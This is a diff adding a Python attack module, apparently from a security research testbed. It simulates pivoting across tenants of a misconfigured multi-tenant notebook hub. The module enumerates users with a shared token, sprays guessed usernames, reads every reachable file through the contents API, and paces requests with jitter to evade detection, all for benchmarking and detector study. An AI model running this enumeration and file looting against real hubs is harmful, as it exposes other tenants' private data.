@@ -1,0 +1,140 @@
+"""Cross-tenant pivot through a multi-tenant hub.
+
+The fleet-scale campaign the hub subsystem exists to study: compromise
+*one* account (stolen token, §account-takeover), then ride hub-level
+misconfiguration sideways into every other tenant.  Two doors open the
+pivot:
+
+- **shared API token** (``per_user_tokens=False``): the stolen token is
+  everyone's token — and the hub's, so ``/hub/api/users`` enumerates the
+  victim list for free;
+- **proxy auth bypass** (``proxy_auth_required=False``): the proxy
+  relays any request to any ``/user/<name>/`` prefix unchecked, and the
+  attacker falls back to spraying guessed usernames.
+
+Against a correctly configured hub (per-user tokens, proxy auth on) the
+same campaign dies at the proxy with a 403 storm — the contrast the
+hub-misconfiguration benchmark measures.  On the wire, the sweep is one
+source fanning out across many ``/user/<name>`` prefixes, which is
+exactly what the monitor's :class:`~repro.monitor.anomaly.TenantSweepDetector`
+keys on at the proxy tap.
+"""
+
+from __future__ import annotations
+
+import json
+from typing import List, Optional, Set
+
+from repro.attacks.base import Attack, AttackResult
+from repro.attacks.scenario import Scenario
+from repro.server.gateway import WebSocketKernelClient
+from repro.taxonomy.oscrp import Avenue, Concern
+
+#: Fallback username spray when the hub refuses enumeration.
+DEFAULT_USERNAME_GUESSES = [f"user{i:02d}" for i in range(20)] + [
+    "admin", "alice", "bob", "jovyan", "test", "demo",
+]
+
+
+class CrossTenantPivotAttack(Attack):
+    """Enumerate hub tenants and loot every server the token opens."""
+
+    name = "cross-tenant-pivot"
+    avenue = Avenue.ACCOUNT_TAKEOVER
+    technique = "hub-shared-token-pivot"
+
+    def __init__(self, *, token: str = "", username_guesses: Optional[List[str]] = None,
+                 max_tenants: int = 0, request_delay: float = 0.5):
+        self.token = token
+        self.username_guesses = username_guesses
+        self.max_tenants = max_tenants
+        self.request_delay = request_delay
+
+    # -- helpers --------------------------------------------------------------
+    def _tenant_client(self, scenario: Scenario, tenant: str,
+                       token: str) -> WebSocketKernelClient:
+        proxy = getattr(scenario, "proxy", None)
+        assert proxy is not None
+        return WebSocketKernelClient(
+            scenario.attacker_host, scenario.server_host, port=proxy.config.port,
+            token=token, username="pivot", path_prefix=f"/user/{tenant}")
+
+    def _enumerate(self, scenario: Scenario, token: str) -> List[str]:
+        """Tenant discovery: hub listing first, username spray second."""
+        client = self._tenant_client(scenario, "x", token)
+        resp = client.request("GET", "/hub/api/users")
+        if resp.status == 200:
+            listing = json.loads(resp.body or b"[]")
+            return [u["name"] for u in listing if u.get("server_running")]
+        rng = scenario.rng.child("hubpivot-spray")
+        guesses = self.username_guesses or DEFAULT_USERNAME_GUESSES
+        found: List[str] = []
+        for guess in guesses:
+            probe = self._tenant_client(scenario, guess, token)
+            status = probe.request("GET", "/api/status").status
+            scenario.run(self.request_delay * rng.uniform(0.5, 1.8))
+            if status in (200, 503):  # 503 = exists but not running
+                found.append(guess)
+        return found
+
+    def _loot(self, client: WebSocketKernelClient, *, max_depth: int = 2) -> int:
+        """Pull every file reachable within ``max_depth`` of a tenant's
+        root; returns bytes read."""
+        stolen = 0
+
+        def walk(path: str, depth: int) -> None:
+            nonlocal stolen
+            listing = client.json("GET", f"/api/contents/{path}")
+            for entry in listing.get("content") or []:
+                if entry.get("type") == "directory" and depth < max_depth:
+                    walk(entry["path"], depth + 1)
+                elif entry.get("type") in ("file", "notebook"):
+                    model = client.json("GET", f"/api/contents/{entry['path']}")
+                    stolen += len(str(model.get("content", "")))
+
+        walk("", 0)
+        return stolen
+
+    # -- execution ------------------------------------------------------------
+    def execute(self, scenario: Scenario) -> AttackResult:
+        if getattr(scenario, "proxy", None) is None:
+            return self._result(success=False,
+                                narrative="no hub in this scenario — nothing to pivot across")
+        token = self.token or scenario.token
+        rng = scenario.rng.child("hubpivot")
+        tenants = self._enumerate(scenario, token)
+        if self.max_tenants > 0:
+            tenants = tenants[: self.max_tenants]
+        accessed: List[str] = []
+        denied = 0
+        stolen_bytes = 0
+        for tenant in tenants:
+            client = self._tenant_client(scenario, tenant, token)
+            resp = client.request("GET", "/api/contents/")
+            # Jittered pacing, like a tooled attacker avoiding timing tells.
+            scenario.run(self.request_delay * rng.uniform(0.5, 1.8))
+            if resp.status != 200:
+                denied += 1
+                continue
+            accessed.append(tenant)
+            try:
+                stolen_bytes += self._loot(client)
+            except Exception:
+                pass
+        # The pivot only counts if we got past our own account.
+        pivoted = [t for t in accessed if t != getattr(scenario, "default_tenant", "")]
+        concerns: Set[Concern] = set()
+        if pivoted:
+            concerns |= {Concern.EXPOSED_DATA, Concern.DISRUPTION_OF_COMPUTING}
+        return self._result(
+            success=bool(pivoted),
+            concerns=concerns,
+            narrative=(f"pivoted into {len(pivoted)} of {len(tenants)} tenants, "
+                       f"read {stolen_bytes} bytes ({denied} denied)"),
+            tenants_enumerated=len(tenants),
+            tenants_accessed=len(accessed),
+            tenants_pivoted=len(pivoted),
+            requests_denied=denied,
+            bytes_browsed=stolen_bytes,
+            source_ip=scenario.attacker_host.ip,
+        )
